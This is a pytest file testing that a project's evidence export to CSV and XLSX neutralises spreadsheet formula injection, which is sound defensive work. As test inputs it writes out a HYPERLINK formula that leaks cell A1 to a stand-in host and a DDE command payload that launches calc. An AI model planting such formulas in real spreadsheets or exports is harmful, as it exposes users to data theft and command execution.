"""Formula injection: no text we export runs as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from postcart.evidence import load
from postcart.evidence.export import ExportFormat, export_file, export_text
from postcart.evidence.spreadsheet_safe import neutralise, neutralise_frame

#: Still carries "82 %", which the validator checks against the outcome's value.
HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"The ORR was 82 % in fixture A.")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.12", "-0.12"),  # a plain number is not a formula
        ("+3", "+3"),
        ("-5%", "-5%"),
        ("-1e-3", "-1e-3"),
        ("ORR 60%", "ORR 60%"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_neutralise_cells(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


def test_neutralise_frame_touches_text_headers_and_cells_only() -> None:
    frame = pd.DataFrame({"=h": ["=x", "ok"], "n": [-1, 2]})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=h", "n"]
    assert list(out["'=h"]) == ["'=x", "ok"]
    assert list(out["n"]) == [-1, 2]
    assert list(frame["=h"]) == ["=x", "ok"]  # the input is not changed


@pytest.fixture
def hostile_evidence(good_dir: Path, tmp_path: Path) -> Path:
    """The good fixtures with one quote that a spreadsheet would run as a formula."""
    folder = tmp_path / "data"
    shutil.copytree(good_dir, folder)
    path = folder / "study_a.yaml"
    text = path.read_text(encoding="utf-8")
    hostile = HOSTILE.replace('"', '\\"')
    path.write_text(
        text.replace('quote: "The ORR was 82 % in fixture A."', f'quote: "{hostile}"'),
        encoding="utf-8",
    )
    return folder


def test_csv_export_writes_the_quote_inert(hostile_evidence: Path) -> None:
    evidence = load(hostile_evidence)
    rows = list(csv.DictReader(io.StringIO(export_text(evidence, ExportFormat.csv))))
    quotes = [r["quote"] for r in rows]
    assert "'" + HOSTILE in quotes
    assert not any(q.startswith(("=", "+", "@")) for q in quotes)


def test_xlsx_export_stores_the_quote_as_text_not_formula(
    hostile_evidence: Path, tmp_path: Path
) -> None:
    path = export_file(load(hostile_evidence), ExportFormat.xlsx, tmp_path / "e.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells, "the hostile quote is in the workbook"
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
